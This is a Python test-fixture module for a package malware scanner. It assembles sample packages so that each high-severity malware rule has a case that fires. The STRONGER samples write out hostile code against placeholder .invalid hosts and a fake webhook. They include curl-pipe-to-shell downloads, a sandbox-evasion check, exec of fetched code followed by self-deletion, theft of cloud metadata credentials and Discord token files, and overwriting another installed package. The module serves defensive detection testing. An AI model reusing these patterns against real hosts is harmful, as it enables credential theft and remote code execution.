"""Must-fire samples: for every malware rule that may reach `look` by itself, packages on which it does.

Most are the cases of the rules' own pages; where a page's case is too mild to reach `look`, a complete one stands in
`STRONGER`. All are ours and inert: hosts are `.invalid` or documentation addresses, payloads print a word.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache

from evasion_kit import Package

from pratique.model import Review
from pratique.pipeline import Options, review, review_files
from pratique.rules import Rule, pages
from pratique.rules import load as load_rules
from pratique.rules.pages import parse
from pratique.verdict.policy import LEVELS, settings

OF_OTHER_PACKAGES = frozenset({"depend-on-a-harmful-release"})
"""Rules that speak of another package than the one at hand; those of changes and known malware do, too."""
BUILD_FILES = frozenset({"setup.py", "setup.cfg", "pyproject.toml"})


@dataclass(frozen=True, slots=True, kw_only=True)
class Sample:
    """A package on which a rule fires, and the level that it reaches."""

    name: str
    rule: str
    package: Package
    level: str

    @property
    def layout(self) -> bool:
        """Tell whether the text's layout is what the rule speaks of: writing the tree anew would end the hiding."""
        return self.rule in ("hide-text-from-reviewers", "hide-code-from-view")


def judged(package: Package) -> Review:
    """Review a package, everything shown."""
    options = Options(audience="everything")
    filename, data = package.container
    if data:
        return review(data, filename=filename, options=options)
    return review_files(dict(package.files), package.kind, options=options)


def fired(review: Review) -> frozenset[str]:
    """Return the rules of a review's findings."""
    return frozenset(finding.rule for finding in review.findings)


def may_reach_look(rule: Rule) -> bool:
    """Tell whether a rule's points, with all that concealment may add, make `look` alone."""
    numbers = settings()
    card = numbers.scorecard.rules.get(rule.id)
    points = numbers.policy.points[rule.severity][rule.confidence]
    points = points if card is None or card.points is None else card.points
    alone = rule.line not in ("change", "known") and rule.id not in OF_OTHER_PACKAGES
    return (
        alone and rule.category == "malware" and points + numbers.policy.limits.most_for_traits >= numbers.policy.bias
    )


def _page_packages(rule: Rule) -> dict[str, Package]:
    found = {}
    for case in parse(pages.source(rule.id) or "").cases:
        if case.fires:
            kind = "sdist" if BUILD_FILES & {file.path for file in case.files} else "wheel"
            found[case.name.split()[0]] = Package(kind=kind, files=tuple((file.path, file.data) for file in case.files))
    return found


@cache
def samples() -> tuple[Sample, ...]:
    """Return every sample that reaches `look`, ordered by name."""
    found = []
    for rule in load_rules():
        if not may_reach_look(rule):
            continue
        for name, package in (_page_packages(rule) | STRONGER.get(rule.id, {})).items():
            seen = judged(package)
            level = seen.verdict.level
            if rule.id in fired(seen) and LEVELS.index(level) >= LEVELS.index("look"):
                found.append(Sample(name=f"{rule.id}/{name}", rule=rule.id, package=package, level=level))
    return tuple(sorted(found, key=lambda sample: sample.name))


def uncovered() -> list[str]:
    """Return the rules that may reach `look` and have no sample."""
    return sorted({rule.id for rule in load_rules() if may_reach_look(rule)} - {sample.rule for sample in samples()})


def _beside(rule: str, source: str) -> Package:
    """Return the first case of a rule's page with other code as its package."""
    (files,) = (case.files for case in parse(pages.source(rule) or "").cases[:1])
    kept = [(file.path, file.data) for file in files if not file.path.endswith(".py")]
    return Package(kind="wheel", files=(*kept, ("acme/__init__.py", source.lstrip("\n").encode())))


def _module(source: str) -> Package:
    return Package(kind="wheel", files=(("acme/__init__.py", source.lstrip("\n").encode()),))


HOOK = "https://chat.invalid/api/webhooks/123456789012345678/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
STRONGER: dict[str, dict[str, Package]] = {
    "contact-drop-sites-unasked": {
        "report": _module(f"""
import platform
import requests

requests.post("{HOOK}", json={{"content": platform.node()}})
""")
    },
    "erase-its-traces": {
        "after": _module("""
import os
import requests

exec(requests.get("https://a.acme.invalid/s").text)
os.remove(__file__)
""")
    },
    "evade-analysis": {
        "before": _module("""
import os

if os.path.exists(r"C:\\Windows\\System32\\vboxservice.exe"):
    raise SystemExit
os.system("curl -s https://a.acme.invalid/x | sh")
""")
    },
    "hold-an-archive-with-two-readings": {
        "beside": _beside(
            "hold-an-archive-with-two-readings",
            """
import os

os.system("curl -s https://a.acme.invalid/x | sh")
""",
        )
    },
    "look-up-dangerous-names-at-run-time": {
        "command": _module("""
import os

getattr(os, "".join(["sys", "tem"]))("curl -s https://a.acme.invalid/x | sh")
""")
    },
    "query-the-metadata-service": {
        "send": _module("""
import requests

role = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=1).text
requests.post("https://a.acme.invalid/in", data=role)
""")
    },
    "read-messenger-tokens": {
        "send": _module(f"""
import os
import requests

root = os.path.expanduser("~/.config/discord/Local Storage/leveldb/000005.ldb")
requests.post("{HOOK}", files={{"f": open(root, "rb").read()}})
""")
    },
    "write-into-other-packages": {
        "download": _module("""
import os
import site
import requests

place = os.path.join(site.getsitepackages()[0], "requests", "api.py")
with open(place, "w") as file:
    file.write(requests.get("https://a.acme.invalid/api.py").text)
exec(requests.get("https://a.acme.invalid/s").text)
""")
    },
}
"""Complete samples for rules whose page shows the behaviour alone."""
